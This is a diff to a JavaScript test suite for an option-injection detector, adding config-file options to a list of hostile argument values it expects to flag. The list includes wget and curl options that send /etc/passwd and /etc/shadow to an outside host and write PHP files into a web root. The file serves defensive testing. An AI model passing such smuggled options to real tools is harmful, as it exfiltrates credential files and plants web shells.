@@ -18,7 +18,7 @@ describe("option-injection analyzer: a value that is a tool's options", () => {
   });
 
   test("options that send a local file away or write one into a web root or system directory", () => {
-    for (const v of ["--post-file=/etc/passwd http://198.51.100.7/", "--post-file /etc/passwd http://198.51.100.7/", "-F 'x=@/etc/passwd' http://198.51.100.7/", "-d @/etc/passwd http://x/", "--data-binary @/etc/passwd", "-X/var/www/html/shell.php", "-O /var/www/html/x.php http://198.51.100.7/x", "--upload-file /etc/shadow http://x/", "-T/etc/passwd http://x/"]) {
+    for (const v of ["--post-file=/etc/passwd http://198.51.100.7/", "--post-file /etc/passwd http://198.51.100.7/", "-F 'x=@/etc/passwd' http://198.51.100.7/", "-d @/etc/passwd http://x/", "--data-binary @/etc/passwd", "-X/var/www/html/shell.php", "-O /var/www/html/x.php http://198.51.100.7/x", "--upload-file /etc/shadow http://x/", "-T/etc/passwd http://x/", "--config=/tmp/upload-7.txt", "-K /var/tmp/a http://x/", "--config '/tmp/x'"]) {
       expect([v, s(v)]).toEqual([v, 0.85]);
     }
   });
